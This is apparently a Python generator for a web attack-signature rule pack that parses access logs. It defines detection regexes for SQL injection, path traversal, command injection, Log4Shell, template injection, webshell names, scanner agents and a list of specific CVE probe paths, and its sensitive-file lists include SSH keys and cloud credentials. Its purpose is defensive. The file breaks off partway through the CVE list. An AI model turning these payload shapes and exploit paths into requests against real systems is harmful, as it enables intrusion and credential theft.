#!/usr/bin/env python3
"""Writes rules/web.yaml, the web attack-signature pack, from the tables below.

One table of signatures (SIGNATURES: tagging rules), one of alerting rules
(ALERTS: metric rules over the signatures, per source), one of CVE probes
(CVE_PROBES). Every rule reads every access-log format of ACCESS_FORMATS through
one shared parser chain (ACCESS_PIPELINE), so a rule is written once.

The lists of sensitive files, OS files, shell words and scanner user agents are
read from the OWASP Core Rule Set data files (Debian's modsecurity-crs, directory
$CRS_DIR, default /usr/share/modsecurity-crs/rules) when this runs; the generated
YAML is committed, so nothing at run time needs the package. The CRS version
used is written in the pack's header.

usage: python3 rules/gen_web.py            (writes rules/web.yaml)
"""
import json
import os
import re
import sys

import genlib
from httplog import CONTAINER_PREFIX

# --------------------------------------------------------------------------
# Access-log formats (imported read-only by rules/gen_http.py)
# --------------------------------------------------------------------------

# The whole optional prefix an access-log line may carry when it went through
# syslog (nginx `access_log syslog:...`, Apache piped to logger, ward-ingest's
# syslog receiver that writes `program[pid]: message`): the shared header and
# program tag of rules/genlib.py, with the web servers' program names.
SYSLOG_HEADER = genlib.SYSLOG_HEADER
WEB_PROGRAMS = r'(?:nginx|apache2?|httpd|apache-access|lighttpd)'
SYSLOG_PREFIX = r'(?:' + genlib.program_start(WEB_PROGRAMS) + r')?'

# A quoted field as nginx writes it (a `"` inside is `\x22`) and as Apache
# writes it (`\"`): the body never holds a bare `"`.
_Q = r'(?:[^"\\]|\\.)*'
_ADDR = r'[0-9A-Fa-f:.]*[0-9A-Fa-f](?:%[0-9A-Za-z]+)?'   # IPv4, IPv6 (zone id allowed)
_REQ = (r'"(?P<request_method>[A-Za-z]+) (?P<request_uri>' + _Q + r'?)'
        r'(?: (?P<server_protocol>[A-Za-z]+/[0-9.]+))?"')
_TAIL = r' (?P<status>\d{3}) (?:\d+|-)'
_REF_UA = r' "(?P<http_referer>' + _Q + r')" "(?P<http_user_agent>' + _Q + r')"'

ACCESS_FORMATS = {
    # name: {"kind": "regexp" | "json", "pattern" or "fields", "example"}
    "combined": {
        "kind": "regexp",
        "pattern": r'(?P<remote_addr>' + _ADDR + r') \S+ \S+ \[[^\]]+\] ' + _REQ + _TAIL + _REF_UA,
        "example": '198.51.100.7 - - [01/Jun/2024:00:00:00 +0000] "GET /a?b=1 HTTP/1.1" 404 153 "-" "curl/8.5.0"',
    },
    "common": {
        "kind": "regexp",
        "pattern": r'(?P<remote_addr>' + _ADDR + r') \S+ \S+ \[[^\]]+\] ' + _REQ + _TAIL,
        "example": '198.51.100.7 - frank [01/Jun/2024:00:00:00 +0000] "GET /a HTTP/1.0" 200 2326',
    },
    "vhost_combined": {   # Apache `%v:%p %h ...` and the `%v %h ...` form
        "kind": "regexp",
        "pattern": r'(?P<vhost>[^\s"]+) (?P<remote_addr>' + _ADDR + r') \S+ \S+ \[[^\]]+\] ' + _REQ + _TAIL + _REF_UA,
        "example": 'www.example.com:443 198.51.100.7 - - [01/Jun/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8.5.0"',
    },
    "json": {   # nginx `log_format ... escape=json` with nginx's variable names
        "kind": "json",
        "fields": {"remote_addr": "src_ip", "request_method": "method", "request_uri": "request_uri (raw)",
                   "status": "status", "http_referer": "referer", "http_user_agent": "user_agent"},
        "example": '{"remote_addr":"198.51.100.7","request_method":"GET","request_uri":"/a","status":404,'
                   '"http_referer":"","http_user_agent":"curl/8.5.0"}',
    },
}

# One regexp for every text format: optional syslog prefix, optional vhost,
# the client at its position, the request, the status, and referer and user
# agent when present.  The vhost is told apart by the count of tokens before
# `[` (4 with it, 3 without), so a client cannot shift the address.
ACCESS_TEXT_REGEX = (r'^' + CONTAINER_PREFIX + SYSLOG_PREFIX + r'(?:(?P<vhost>[^\s"]+) )?(?P<remote_addr>' + _ADDR + r') \S+ \S+ '
                     r'\[[^\]]+\] ' + _REQ + _TAIL + r'(?:' + _REF_UA + r')?')

# The parser stages every web rule shares (ward-match runs them once per
# event whatever the number of rules).  A JSON line gets its members from
# `json`; a text line fails `json` (the error is dropped) and gets the same
# names from the regexp, which cannot match a JSON line (it starts with `{`).
# Fields out: src_ip, method, request_uri (raw), uri (URL-decoded twice, `+`
# as space), status, referer, user_agent, server_protocol, vhost when present.
ACCESS_PIPELINE = (
    '| json | drop __error__, __error_details__'
    ' | regexp `' + ACCESS_TEXT_REGEX + '`'
    ' | remote_addr != ""'
    ' | label_format src_ip=remote_addr, method=request_method, user_agent=http_user_agent, referer=http_referer,'
    ' uri=`{{ .request_uri | urldecode | urldecode }}`')


# Every access-log line that a signature can match holds a request: `"METHOD `
# in the text formats, the `remote_addr` key in JSON ones (ACCESS_PIPELINE needs it). As a flat alternation of
# literals this is what ward-match's one-scan prefilter keys on, so lines of
# other logs (an auth log, a mail log) skip every web rule without running its
# regexes; the rules' own filters below are regexes with one-character
# branches (`'`, `;`, `(`) that no literal index can use.
METHODS = ["GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "PATCH", "CONNECT", "TRACE",
           "PROPFIND", "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "SEARCH"]
REQUEST_FILTER = '|~ `' + '|'.join('"%s ' % m for m in METHODS) + '|remote_addr`'


def access_query(line_filter):
    """The LogQL log query of a web rule: selector, REQUEST_FILTER, the rule's
    cheap line filter (a `|= "..."` or `|~ `...`` stage, or ""), then
    ACCESS_PIPELINE."""
    return ('{job=~".+"} ' + REQUEST_FILTER + ' ' + (line_filter + ' ' if line_filter else '')
            + ACCESS_PIPELINE)


# --------------------------------------------------------------------------
# OWASP CRS data files
# --------------------------------------------------------------------------
CRS_DIR = os.environ.get("CRS_DIR", "/usr/share/modsecurity-crs/rules")


def crs_list(name):
    path = os.path.join(CRS_DIR, name)
    try:
        with open(path, encoding="utf-8") as f:
            return [l.strip() for l in f if l.strip() and not l.startswith("#")]
    except OSError as e:
        sys.exit("gen_web.py: cannot read the CRS data file %s: %s (install modsecurity-crs or set CRS_DIR)" % (path, e.strerror))


def crs_version():
    try:
        with open(os.path.join(CRS_DIR, "REQUEST-901-INITIALIZATION.conf"), encoding="utf-8") as f:
            m = re.search(r"Core Rule Set ver\.(\S+)", f.read())
            return m.group(1) if m else "unknown"
    except OSError:
        return "unknown"


def alt(words):
    """A regex alternation of literal words, longest first."""
    return "(?:" + "|".join(re.escape(w).replace("\\ ", " ") for w in sorted(set(words), key=lambda w: (-len(w), w))) + ")"


def trie(words):
    """A case-insensitive regex (without the (?i)) matching any of the literal
    words, as a trie: at each position of a line the engine follows one
    branch per letter instead of trying every word (a 100-word list is ~10x
    cheaper than the plain alternation)."""
    root = {}
    for w in words:
        node = root
        for ch in w.lower():
            node = node.setdefault(ch, {})
        node[""] = {}

    def build(node):
        end = "" in node
        alts = [re.escape(ch).replace("`", "\\x60") + build(child) for ch, child in sorted(node.items()) if ch != ""]
        if not alts:
            return ""
        body = alts[0] if len(alts) == 1 and not end else "(?:" + "|".join(alts) + ")"
        return body + ("?" if end and body else "")
    return build(root)


# Scanner user agents: CRS scanners-user-agents.data plus tools CRS 3.3 lacks.
# A word that is also an ordinary English word or product name is left out
# (it would flag real browsers or libraries): see docs/rules.md.
UA_DROP = {"user-agent:", "metis", "grabber", "floodgate", "security scan", "inspath", "bilbo", "get-minimal"}
UA_EXTRA = ["feroxbuster", "l9explore", "l9tcpid", "acunetix", "jaeles", "dirsearch", "ffuf/", "nmap/", "wpscan",
            "Nuclei", "CensysInspect", "zgrab", "masscan", "xfa1", "Go-http-client/1.1 (Nuclei)", "sqlmap", "nikto",
            "Hello, World", "Hello World", "fuzz/", "ALittle Client", "Mozilla/5.0 zgrab"]
UA_WORDS = [w for w in crs_list("scanners-user-agents.data") if w.lower() not in UA_DROP] + UA_EXTRA

# Sensitive files: CRS restricted-files.data (names that hold secrets, source
# or configuration) plus backups and secrets CRS does not list.  A name is
# matched as a path segment (after `/`), then end, `/`, `?`, `#`, or a backup
# suffix (`.bak`, `~`, `.swp`, ...), so `/my.profile.html` is not `.profile`.
RESTRICTED = crs_list("restricted-files.data")
SENSITIVE_EXTRA = [".env", ".git", ".svn", ".hg", ".bzr", ".cvs", "CVS/Root", ".ssh", ".aws", ".listing", ".listings",
                   ".passwd", ".pwd", ".rhosts", ".forward", ".subversion", ".cache", ".config", ".perf", ".idea",
                   ".vscode", ".npmrc", ".pypirc", ".git-credentials", ".s3cfg", ".pgpass", ".netrc", "id_rsa",
                   "id_dsa", "id_ecdsa", "id_ed25519", "wp-config.php", "config.php.bak", "configuration.php.bak",
                   "web.config.bak", "settings.php.bak", "phpinfo.php", "info.php", "server-status", "server-info",
                   "actuator/env", "actuator/heapdump", "credentials.json", "secrets.json", "secrets.yml",
                   ".travis.yml", "docker-compose.yml", "docker-compose.yaml", "config/database.yml",
                   "app/etc/env.php", "debug.log", "error.log", "access.log", "storage/logs/laravel.log"]
# mod_status and mod_info pages: monitoring agents (apache_exporter, Zabbix,
# Nagios check_http) scrape the machine-readable /server-status?auto every
# few seconds and get 200 from the hosts mod_status allows; scanners read the
# HTML page (no ?auto).  The ?auto form counts only when refused or missing.
SENS_SERVED_OK = ["server-status", "server-info"]
STATUS_PAGE_RE = r'/server-(?:status|info)(?:$|[/#]|\?(?!auto(?:$|&)))'
STATUS_SCRAPE_RE = r'/server-(?:status|info)\?auto(?:$|&)'
SENS_NAMES = sorted({w.lstrip("/") for w in RESTRICTED + SENSITIVE_EXTRA if w.strip("/")} - set(SENS_SERVED_OK))
# Archives and dumps of a whole site: the name says so (backup, dump, db,
# the site's domain), the extension is an archive or dump; any name with a
# dump extension (.sql, .bak).  Ordinary words (data, web, new, export...)
# with an archive extension are downloads a site offers (open-data.zip,
# web-1.2.3.tar.gz): a guess only when the server does not have the file.
_ARCHIVE_EXT = r'zip|rar|7z|tar|tar\.gz|tgz|tar\.bz2|gz'
_WEAK_WORDS = r'(?:site|www|html|web|home|root|data|old|new|archive|export|users)'
BACKUP_RE = (r'/(?:[^/?]*[._-])?(?:backups?|bak|db|dump|database|mysql|sql|wwwroot|htdocs|public_html|webroot)(?:[._-][^/?]*)?'
             r'\.(?:sql|sql\.gz|sql\.zip|bak|' + _ARCHIVE_EXT + r')(?:$|[?#])'
             r'|/(?:[^/?]*[._-])?' + _WEAK_WORDS + r'(?:[._-][^/?]*)?\.(?:sql|sql\.gz|sql\.zip|bak)(?:$|[?#])'
             r'|/[^/?]+\.(?:com|net|org|info|de|fr|io|co|uk|ru|nl)\.(?:sql|zip|rar|7z|tar|tar\.gz|tgz|gz|bak)(?:$|[?#])')
BACKUP_GUESS_RE = r'/(?:[^/?]*[._-])?' + _WEAK_WORDS + r'(?:[._-][^/?]*)?\.(?:' + _ARCHIVE_EXT + r')(?:$|[?#])'
# Any other hidden path: a scanner's guess when missing or refused; one the
# server answers is its own (Anubis serves /.within.website/ to browsers,
# Azure /.auth/, Netlify /.netlify/).
HIDDEN_RE = r'/\.(?!(?:well-known|auth|netlify)(?:/|$|[?#]))[A-Za-z0-9_][^/?#]*'
SENSITIVE_RE = ('(?i)^[^?#]*(?:/' + trie(SENS_NAMES) + r'(?:$|[/?#~]|\.(?:bak|old|orig|save|swp|swo|tmp|temp|txt|1|2|dist|copy|back|backup|zip|tar\.gz|gz)(?:$|[?#]))'
                '|' + STATUS_PAGE_RE + '|' + BACKUP_RE + r').*')
SENSITIVE_GUESS_RE = '(?i)^[^?#]*(?:' + STATUS_SCRAPE_RE + '|' + BACKUP_GUESS_RE + '|' + HIDDEN_RE + r').*'


# OS files a file-inclusion attack reads: CRS lfi-os-files.data, the entries
# under the system directories (the dot-files there are sensitive-file names,
# handled above).
LFI_FILES = [w for w in crs_list("lfi-os-files.data")
             if re.match(r'(?i)(?:etc|proc|windows|winnt|boot\.ini|system32|var/log|usr/local/etc|sys/)', w) and " " not in w]
# Shell words: CRS unix-shell.data, the variables ($IFS, ${PATH}) and the
# shell/tool binaries under bin/ and dev/tcp, which a request has no business
# naming after a `;`, `|`, `=` or `$(`.
SHELL_WORDS = [w for w in crs_list("unix-shell.data") if w.startswith("$") or re.match(r'(?:usr/(?:local/)?)?s?bin/|dev/(?:tcp|udp)/', w)]

# --------------------------------------------------------------------------
# Signature regexes (run on labels; label regexes are anchored, hence .*...*)
# --------------------------------------------------------------------------
SQLI = (r"""(?is).*(?:'\s*(?:or|and|xor|\|\||&&)\s+['"(]?\w*['")]?\s*(?:=|like\b|<|>|is\b)|\b(?:or|and)\s+\d+\s*(?:=|<|>)\s*\d+"""
        r"""|union(?:\s|/\*.*?\*/|\+|\()+(?:all(?:\s|/\*.*?\*/)+|distinct(?:\s|/\*.*?\*/)+)?\(?select\b|'\s*(?:--|#|/\*|;)|['")]\s*(?:and|or)\s+(?:sleep|benchmark|extractvalue|updatexml|\d+=\d+)"""
        r"""|\border\s+by\s+\d+\s*(?:--|#|/\*)|\b(?:sleep|pg_sleep)\s*\(\s*\d+(?:\.\d+)?\s*\)|\bbenchmark\s*\(\s*\d+\s*,"""
        r"""|\bwaitfor\s+delay\s+'|;\s*(?:drop|delete|insert|update|create|alter|truncate|exec|shutdown|declare|waitfor|select)\s"""
        r"""|\b(?:extractvalue|updatexml)\s*\(|@@(?:version|datadir|hostname)|information_schema|\bconcat(?:_ws)?\s*\(\s*0x|\bload_file\s*\("""
        r"""|\binto\s+(?:out|dump)file\b|\bselect\s+null\s*(?:,\s*null\s*)+|(?:,\s*null\s*){2,}(?=$|--|#|/\*|[)&'";])|\|\|\s*chr\s*\("""
        r"""|\bselect\s*(?:char|chr|ascii)\s*\(|\bselect\s+(?:(?:distinct|all|top\s+\d+)\s+)?[\w.\x60"'()@*|:]+(?:\s*,\s*[\w.\x60"'()@*|:]+)*\s+from\s+\w*(?:users?|admin|mysql|pg_|sys|dual)\b).*""")
# Probing: an SQL function call as the whole start of a parameter value (a
# scanner's probe word), counted only towards the alert's threshold.
SQLI_PROBE = (r"""(?is).*[?&][^=&]*=[\s'"(]*(?:benchmark|load_file|substr|substring|char|chr|ascii|distinct|pg_sleep|sleep|"""
              r"""hex|unhex|md5|upper|concat|group_concat|version|database|schema|ord|mid|if|case|cast|convert)\s*\(.*""")
TRAV = (r"""(?is).*(?:\.\.[/\\]|[/\\]\.\.(?:$|[/\\?#;])|\.\.;/|(?:^|[/\\=])(?:[a-z]:)?[/\\]*""" + trie(LFI_FILES) + r"""(?:$|[?&#\x00;])"""
        r"""|/proc/self/|\b(?:php|phar|zip|data|expect|glob|compress\.zlib)://|file:/{1,3}[a-z/]|\x00|\b(?:win|boot|system)\.ini\b).*""")
TRAV_RAW = r"""(?i).*(?:%c0%ae|%e0%80%ae|%c0%af|%c1%9c|%25c0%25ae|%uff0e|%u002e).*"""
RFI = (r"""(?is).*(?:[?&][^=&]*=\s*(?:(?:https?|ftps?)://(?:(?!(?:127|10)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[^&?#]+\?$|[^&]*\.(?:txt|php|jpg|gif)\?+$)"""
       r"""|(?:https?|ftps?)://[^&]*(?:rfiinc\.txt|c99\.txt|r57\.txt|shell\.txt|/w3af/remotefileinclude\.html))"""
       r"""|[?&](?:include|inc|require|mosconfig_absolute_path|_conf\[[^\]]*\]|gallery_basedir|phpbb_root_path|base_dir|template_path|pear_dir)=\s*(?:https?|ftps?)://).*""")
XSS = (r"""(?is).*(?:(?:<|&lt;|\\x3c|\\u003c)\s*/?\s*(?:script|img|svg|iframe|frame|body|object|embed|style|link|meta|details|video|audio|input|form|math|base|marquee|isindex|xss)\b"""
       r"""|\b(?:java|vb)script\s*:|(?:^|[\s"'\x60/;])on(?:error|load|mouseover|focus|click|toggle|begin|animationstart|pointerover|mouseenter|start|blur)\s*="""
       r"""|document\.(?:cookie|domain|location|write)|\beval\s*\(|\balert\s*\(\s*(?:\d+|document|window|origin|/|\x60|'xss)|\bprompt\s*\(\s*\d|String\.fromCharCode\s*\().*""")
# A command after a separator must be followed by what a shell command line
# holds (an option, a path, a number, a URL, a dotted file or host name, or
# another separator): `; cat and mouse` in a wiki search is prose.  `$(...)`
# and backticks must open with a command: `$(document)` is jQuery, and
# backticks quote code in Markdown (`git status`).
SHELL_CMD = (r"""(?:/(?:usr/)?s?bin/)?(?:cat|id|uname|whoami|wget|curl|sh|bash|nc|ncat|netcat|ping|ls|rm|chmod|python[0-9.]*|perl|php|"""
             r"""powershell|cmd|tftp|busybox|echo|nslookup|sleep|touch|cd|base64|nohup|ftpget)""")
SHELL_ARGS = r"""(?:\$\{IFS\}|$|[;|&\x60)>\n]|[\s+]+(?:[-/.~$'"\\<>*\d]|(?:https?|ftp)://|[\w-]+\.[\w.-]+|[\w.-]+\s*[;|&\x60>]))"""
CMDI = (r"""(?is).*(?:(?:[;|&\x60\n]|\|\|)\s*""" + SHELL_CMD + SHELL_ARGS +
        r"""|\$\(\s*""" + SHELL_CMD + r"""\b[^)]*\)|\x60\s*""" + SHELL_CMD + r"""\b[^\x60]*\x60|\$\{IFS\}|\$IFS\b|/dev/(?:tcp|udp)/|(?:[;|&=]|\$\()\s*/?""" + trie(SHELL_WORDS) + r"""\b).*""")
SHELLSHOCK = r"""(?s).*\(\)\s*\{[^}]*\}\s*;.*"""
# Log4Shell (CVE-2021-44228/45046): `${jndi:`, and the nested lookups that
# spell it (`${${lower:j}ndi:`, `${${::-j}${::-n}...`, `${j${k8s:k5:-ND}i:`).
LOG4J = (r"""(?is).*\$\{(?:\s*jndi\s*:|\s*\$\{|[^}]{0,40}\$\{(?:lower|upper|::-|env:|sys:|date:|k8s:|main:|base64:|ctx:|sd:|web:|java:|bundle:|docker:|jvmrunargs:|log4j:|map:|spring:|event:|marker:)"""
         r"""|(?:[^}]{0,20}\$\{[^}]*\}){2,}[^}]{0,20}:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?):).*""")
TEXT4SHELL = r"""(?is).*\$\{(?:script|url|dns|file):.*"""   # Apache Commons Text CVE-2022-42889
SSTI = (r"""(?is).*(?:\{\{\s*\d+\s*[*+]\s*['"]?\d+['"]?\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}"""
        r"""|\{\{[^}]*(?:__class__|__globals__|__builtins__|__subclasses__|__mro__|request\.application|lipsum|cycler\.__init__|joiner\.__init__|config\.items)"""
        r"""|\{%[^%]*(?:import|popen|system|os\.)|freemarker\.template\.utility\.Execute|T\(java\.lang\.Runtime\)|@java\.lang\.Runtime@getRuntime|\$\{T\(|#set\s*\(\s*\$\w+\s*=).*""")
SPRING4SHELL = r"""(?is).*(?:class\.module\.classLoader|class\[module\]|class\.classLoader\.|classLoader\.resources\.context).*"""
WEBSHELL = (r"""(?i)^[^?]*/(?:c99|c100|r57|r00t|wso|wso2|wso25|alfa|alfashell|alfa-rex|alfacgiapi|b374k|indoxploit|idx|marijuana|priv8|"""
            r"""webshell|backdoor|sh3ll|shell|cmd|sym|symlink|bypass|mini|leafmailer|leaf|lufix|haxor|hacked|madspot|fox|wp-shell|"""
            r"""adminer-\d[\d.]*|up|uploader|filemanager|fm|xleet|zone-h|0x|xx|404|angel|anonymous|chaos|k2ll33d|ak47|gel4y|simple|"""
            r"""tinyfilemanager|phpspy|h4x0r|mrx|bd|tmp|wp-2019|wp-22|ws|ups|admin1|1index|radio|about|install|autoload_classmap)\.(?:php\d?|phtml|asp|aspx|jsp)(?:$|[?#]).*""")
WEBSHELL_SAFE = r"""(?i)^[^?]*/(?:about|install|admin1|radio|404|simple|tmp|filemanager|fm|up|mini|leaf|fox|ws|ups|shell|cmd)\.(?:php\d?|phtml|asp|aspx|jsp)(?:$|[?#]).*"""
ADMIN = (r"""(?i)^[^?]*(?:/phpmyadmin|/phpmy-admin|/pma\d*/|/myadmin|/mysqladmin|/mysql-admin|/sqladmin|/dbadmin|/db/admin|/pmadb|/phppgadmin|/pgadmin|"""
         r"""/adminer(?:[-_][\d.]+)?(?:\.php)?(?:$|/)|/manager/(?:html|text|status)|/host-manager/|/administrator/|/admin(?:istration)?(?:\.php|\.asp|\.aspx|/|$)|/admin/login|/admin-console|"""
         r"""/jmx-console|/web-console|/invoker/|/axis2?/(?:axis2-)?admin|/solr/admin|/webadmin|/siteadmin|/adminpanel|/admin_area|/controlpanel|/cpanel|/whm(?:$|/)|/plesk|/webmin|"""
         r"""/[+ ]csco[et][+ ]/|/cgi-bin/(?:luci|webproc)|/system/console|/console/login|/jenkins/(?:login|script)|/manager/status|/zabbix/|/nagios|/cacti/|/phpsysinfo|"""
         r"""/xampp/|/server-manager|/typo3/|/bitrix/admin|/user/login\?destination=admin|/ghost/#?/signin|/umbraco|/sitecore/admin|/_admin/|/wp-admin/setup-config\.php|/install\.php|"""
         r"""/(?:roundcube(?:mail)?|rcube|webmail|squirrelmail|rainloop|snappymail|horde)(?:[-_.]?\d[\w.-]*)?(?:/|$)).*""")
SAP = (r"""(?i)^(?:[^?]*/sap/(?:bc/|opu/odata/|public/(?:bc/|info|icf_info)|admin/|hana/xs/)|/irj/(?:portal|go/km/)|/nwa(?:$|[/?])|"""
       r"""[^?]*/webdynpro/dispatcher/|[^?]*/ctc/servlet/|[^?]*/sap/wdisp/admin).*""")
WORDPRESS = r"""(?i)^[^?]*(?:/wp-(?:admin|content|includes)/?$|/wp-[^/?]*\.php|/wp-(?:content|includes|admin)/[^?]*\.(?:php|txt|md|json)|/xmlrpc\.php|/wp-json/wp/v2/users|/wordpress/|/wp/)(?:$|[?#]).*"""
# Products whose API sits at the server's root are matched there only
# (VMware's /sdk, the Kubernetes API's list endpoints, Jenkins' script
# console): a site's own /docs/sdk/ or /api/v1/nodes/42 answering 404 is a
# broken link or a missing record, not a probe.  Scanner fingerprints:
# Nmap's /nmaplowercheck<time>, Polycom's provisioning file y000000000000.cfg.
TECH = (r"""(?i)^(?:/sdk(?:/.*)?$|/api/v1/(?:pods|nodes|namespaces)/?(?:\?.*)?$|/api/v1/namespaces/[^/?]+/(?:pods|secrets|configmaps|serviceaccounts)(?:[/?].*)?$"""
        r"""|/(?:hudson/|jenkins/)?script/?(?:\?.*)?$"""
        r"""|[^?]*(?:/nmaplowercheck\d+|/y000000000000\.cfg|/crx/(?:packmgr|de|explorer)|/libs/granite/|/bin/querybuilder\.json|/system/console|/etc/packages|/vpn/index\.html|/logon/logonpoint/|"""
        r"""/citrix/|/tmui/|/mgmt/tm/|/remote/(?:login|fgt_lang)|/global-protect/|/ssl-vpn/|/dana-na/|/dana-cached/|/[+ ]csco[et][+ ]/|/owa/auth/|/ecp/|/autodiscover/autodiscover\.xml|"""
        r"""/vsphere-client/|/ui/vropspluginui/|/mifs/|/jmx-console/|/wls-wsat/|/_async/|/console/login/loginform\.jsp|/actuator(?:$|/)|/_ignition/|/telescope/|"""
        r"""/solr/|/hnap1|/boaform/|/gponform/|/ctrlt/|/hedwig\.cgi|/getcfg\.php|/sdk/weblanguage|/doc/page/login\.asp|/goform/|/webui/|/cgi-bin/[^?/]*\.(?:cgi|sh|pl|asp)|/cgi/[^?/]*\.cgi|"""
        r"""/v\d\.\d+/containers/json|/containers/json|/app/kibana|/api/jsonws/|/jolokia|/druid/|/nacos/|/seeyon/|/weaver/|/mifs/|/zimbra/|/service/extension/|"""
        r"""/confluence/|/pages/createpage-entervariables\.action|/rest/tinymce/|/s/[^/]*/_/|/servicedesk/|/plugins/servlet/|/vendor/phpunit/|/phpunit/|/level/\d+/exec/|/cgi-mod/|/portal/redlion|"""
        r"""/webtools/control/|/ofbiz|/nifi-api/|/geoserver/|/struts2?-showcase|/invoker/jmxinvokerservlet|/manager/text/|/evox/|/vpns/|/php/login\.php|/ui/login\.php)).*""")
SCANNER_UA = "(?i).*" + trie(UA_WORDS) + ".*"

# --------------------------------------------------------------------------
# Known-CVE probes, each from the vendor advisory or the public PoC.
# (id, what, regex on the decoded uri, extra label filter, literal for the
#  line prefilter).  The regexes are case-insensitive searches.
# --------------------------------------------------------------------------
CVE_PROBES = [
    ("CVE-2017-9841", "PHPUnit eval-stdin.php remote code execution", r"/phpunit/(?:phpunit/)?src/Util/PHP/eval-stdin\.php|/Util/PHP/eval-stdin\.php", "", "eval-stdin"),
    ("CVE-2022-40684", "Fortinet FortiOS/FortiProxy authentication bypass on the REST API (PUT to an admin user)",
     r"^/api/v2/cmdb/system/admin(?:/|$)", 'method =~ "(?i)PUT|POST"', "/api/v2/cmdb/"),
    ("CVE-2018-13379", "Fortinet FortiOS SSL VPN path traversal to sslvpn_websession", r"/remote/fgt_lang\?.*lang=.*(?:\.\./)+.*sslvpn_websession", "", "fgt_lang"),
    ("CVE-2022-26134", "Confluence OGNL injection in the URI", r"\$\{.*(?:@java\.lang\.Runtime@getRuntime|java\.lang\.ProcessBuilder|@org\.apache\.commons|ognl\.|#a=@|Class\.forName)", "", "${|%24%7b|%2524"),
    ("CVE-2023-22518", "Confluence setup-restore improper authorization", r"/json/setup-restore(?:-local|-progress)?\.action", 'method = "POST"', "setup-restore"),
    ("CVE-2023-22515", "Confluence broken access control (setup actions, server-info bootstrap flag)",
     r"/setup/setup(?:admin|dbtype|license|account)[a-z]*\.action|/server-info\.action\?.*bootstrapStatusProvider", "", ".action"),
    ("CVE-2022-41697", "Ghost admin session user enumeration (login probe against a site that is not Ghost)", r"^[^?]*/ghost/api/(?:v\d/|canary/)?admin/session",
     'method = "POST", status = "404"', "/ghost/api/"),
    ("CVE-2022-46169", "Cacti remote_agent.php command injection in poller_id", r"/remote_agent\.php\?.*poller_id=[^&]*(?:;|\||\$\(|\x60)", "", "remote_agent.php"),
    ("CVE-2022-46169", "Cacti remote_agent.php polldata probe against a site without Cacti", r"/remote_agent\.php\?.*action=polldata", 'status =~ "40[34]"', "remote_agent.php"),
    ("CVE-2023-49103", "ownCloud graphapi GetPhpInfo.php information disclosure",
     r"/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo\.php", "", "GetPhpInfo"),
    ("CVE-2022-37042", "Zimbra mboximport authentication bypass (ZIP upload)", r"/service/extension/backup/mboximport\b",
     'method = "POST"', "mboximport"),
    ("CVE-2022-35914", "GLPI htmLawed htmLawedTest.php code execution", r"/vendor/htmlawed/htmlawed/htmLawedTest\.php", "", "htmlawed"),
    ("CVE-2022-44877", "Control Web Panel login command injection", r"/(?:login/)?index\.php\?.*\blogin=[^&]*(?:\$\(|\x60|\$\{IFS\})", 'method = "POST"', "login="),
    ("CVE-2018-20062", "ThinkPHP 5 invokefunction / Container remote code execution",
     r"[?&]s=[^&]*(?:/\\?think\\(?:app|Container|Request|template\\driver\\file|view\\driver\\Php)|invokefunction|call_user_func)"
     r"|\\think\\(?:app|Container)/invokefunction|/index\.php\?s=/?index/\\think", "", "think"),
    ("CVE-2019-9082", "ThinkPHP 5 method/filter remote code execution", r"[?&]s=captcha.*|_method=__construct.*filter\[\]=", "", "_method="),
    ("NETGEAR-RCE", "Netgear DGN setup.cgi unauthenticated command execution (Mozi)", r"/setup\.cgi\?.*todo=syscmd.*cmd=", "", "setup.cgi"),
    ("CVE-2019-11510", "Pulse Secure SSL VPN arbitrary file read", r"/dana-na/\.\./dana/html5acc/guacamole/\.\./|/dana-na/.*\?/dana/html5acc/guacamole/", "", "dana-na"),
    ("CVE-2021-41773", "Apache 2.4.49 path traversal and RCE (/.%2e/)", r"", "", "%2e|%%32%65"),   # raw URI: see CVE_RAW
    ("CVE-2024-38475", "Apache mod_rewrite: an encoded question mark ends the request path", r"", 'status =~ "40[34]"', "%3f"),   # raw URI
    ("CVE-2024-9474", "PAN-OS createRemoteAppwebSession.php privilege escalation", r"/php/utils/createRemoteAppwebSession\.php", "", "createRemoteAppwebSession"),
    ("CVE-2024-0012", "PAN-OS management authentication bypass (.js.map path)", r"^/php/[^?]*\.js\.map|^/index\.php/[^?]*\.js\.map", 'status =~ "40[34]"', ".js.map"),
    ("CVE-2021-3129", "Laravel Ignition execute-solution remote code execution", r"/_ignition/execute-solution", "", "_ignition"),
    ("CVE-2020-5902", "F5 BIG-IP TMUI remote code execution", r"/tmui/login\.jsp/\.\.;/tmui/", "", "tmui"),
    ("CVE-2021-43798", "Grafana plugin path traversal", r"/public/plugins/[^/]+/\.\./", "", "/public/plugins/"),
    ("CVE-2021-26086", "Jira path traversal via /s/.../_/;/WEB-INF", r"/s/[^/]+/_/;?/(?:WEB-INF|META-INF)/", "", "WEB-INF"),
    ("CVE-2019-18935", "Telerik UI RadAsyncUpload deserialization", r"/Telerik\.Web\.UI\.WebResource\.axd\?type=rau", "", "telerik"),
    ("CVE-2022-22947", "Spring Cloud Gateway actuator route injection", r"/actuator/gateway/routes/", 'method = "POST"', "actuator/gateway"),
    ("CVE-2021-26855", "Exchange ProxyLogon SSRF / CVE-2021-34473 ProxyShell", r"/autodiscover/autodiscover\.json\?.*@|/ecp/[^?]*\.js\?.*|/owa/auth/x\.js|/mapi/nspi/\?&email=autodiscover", "", "autodiscover"),
    ("CVE-2023-46604", "Apache ActiveMQ / OpenWire probe via web console", r"/admin/test/systemProperties\.jsp", "", "systemProperties"),
    ("CVE-2021-22005", "VMware vCenter analytics file upload", r"/analytics/telemetry/ph/api/hyper/send\?.*_c=|/analytics/ceip/sdk/", "", "/analytics/"),
    ("CVE-2021-21972", "VMware vCenter vropspluginui upload", r"/ui/vropspluginui/rest/services/(?:uploadova|getstatus)", "", "vropspluginui"),
    ("CVE-2022-1388", "F5 BIG-IP iControl REST authentication bypass", r"^/mgmt/tm/util/bash", 'method = "POST"', "/mgmt/tm/"),
    ("CVE-2023-1389", "TP-Link Archer AX21 country command injection", r"/cgi-bin/luci/;stok=/locale\?form=country", "", "stok="),
